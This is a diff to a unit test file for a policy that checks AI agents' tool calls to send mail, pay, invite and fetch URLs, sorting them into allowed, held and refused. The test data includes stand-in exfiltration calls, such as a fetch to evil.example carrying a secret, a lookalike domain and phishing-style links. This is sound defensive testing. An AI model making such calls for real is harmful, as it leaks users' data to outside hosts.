@@ -1,11 +1,13 @@
 """A call is allowed only as it is granted; what a person must see is held; the rest is refused."""
 
+import re
 from typing import Any
 
 import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
+from policies.guard import judging, tracing, values
 from policies.guard.judging import RULES, judge
 from policies.guard.tracing import Read, Sources
 from runs.records.call import Call, Outcome
@@ -13,6 +15,7 @@ from tests.unit.policies.guard.steps import (
     EVIL,
     GRANTS,
     INVITE,
+    PAY,
     REFUND,
     REQUEST,
     call,
@@ -42,6 +45,18 @@ WRONG: list[tuple[Call, Outcome]] = [
     (call("send", to=[ANA], body="Click evil[.]io"), "hold"),
     (call("send", to=[ANA], subject="DE44 5001 0517 5407 3249 31"), "hold"),
     (call("send", to={EVIL: ANA}), "hold"),
+    (call("send", to=None), "hold"),
+    (call("send", to=""), "hold"),
+    (call("send", to=[]), "hold"),
+    (call("send", to={}), "hold"),
+    (call("send", to=True), "hold"),
+    (call("send", to=[ANA, None]), "hold"),
+    (call("send", to=[[], ANA]), "hold"),
+    (call("pay", account="DE89370400440532013000", amount=None), "hold"),
+    (call("pay", account="DE89370400440532013000", amount=False), "hold"),
+    (call("invite", email=True), "hold"),
+    (call("invite", email=[""]), "hold"),
+    (call("invite", email={"": []}), "hold"),
     (call("pay", account="DE89370400440532013000", amount=9_000), "hold"),
     (call("fetch", url="https://evil.example/?secret=1"), "hold"),
     (call("fetch", url="https://docs.harbour.example.evil.io/"), "hold"),
@@ -72,6 +87,41 @@ def test_an_approval_lets_pass_what_is_held_and_nothing_that_is_refused(
     assert agreed == ("allow" if outcome == "hold" else "refuse")
 
 
+def test_a_choice_that_is_due_is_made() -> None:
+    """Nothing is none of its values."""
+    speed = PAY.arguments[-1].model_copy(update={"required": True})
+    due = PAY.model_copy(update={"arguments": (*PAY.arguments[:-1], speed)})
+    paid = call("pay", account="DE89370400440532013000", amount=120.5, speed=None)
+
+    assert judge(paid, step(due), sources()).outcome == "refuse"
+    assert judge(paid, step(PAY), sources()).outcome == "allow"
+
+
+@pytest.mark.parametrize("nothing", [None, "", [], {}])
+def test_what_may_be_left_out_may_be_sent_empty(nothing: object) -> None:
+    """It reaches nobody either way."""
+    assert ruled(call("invite", email=nothing)).outcome == "allow"
+
+
+@pytest.mark.parametrize("name", [n for m in (values, tracing) for n in vars(m) if n.isupper()])
+def test_rules_that_read_by_anything_else_have_another_name(
+    name: str, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Every pattern, list and number that addresses, accounts and names are found by."""
+    module = values if hasattr(values, name) else tracing
+    monkeypatch.setattr(module, name, re.compile("another"))
+
+    assert judging.name_rules() != RULES
+
+
+def test_a_pattern_that_only_folds_letters_is_another() -> None:
+    """Its flags count as well as its words."""
+    assert judging.name_rules() == RULES
+    with pytest.MonkeyPatch.context() as patch:
+        patch.setattr(values, "CODED", re.compile(values.CODED.pattern, re.IGNORECASE))
+        assert judging.name_rules() != RULES
+
+
 def test_a_ruling_names_its_rules_its_step_and_its_call_and_no_value() -> None:
     """It can be kept and shown without a word of the customer."""
     proposed = call("send", to=[EVIL], body="www.evil.io")
@@ -81,6 +131,14 @@ def test_a_ruling_names_its_rules_its_step_and_its_call_and_no_value() -> None:
     assert "evil" not in str(ruling.as_json())
     assert [one.path for one in ruling.traced] == ["to[0]", "body"]
     assert ruling.reason.startswith("to[0], body must come from the request or a trusted record")
+
+
+def test_a_name_inside_an_object_is_told_by_its_place() -> None:
+    """A model chose it: it may be somebody's name or address."""
+    ruling = ruled(call("send", to={"Dora Elm": [EVIL], EVIL: ANA}))
+
+    assert [one.path for one in ruling.traced] == ["to.(0)[0]", "to.(1).name", "to.(1)"]
+    assert "Elm" not in str(ruling.as_json())
 
 
 def test_a_class_that_the_policy_keeps_waits_whatever_its_values() -> None:
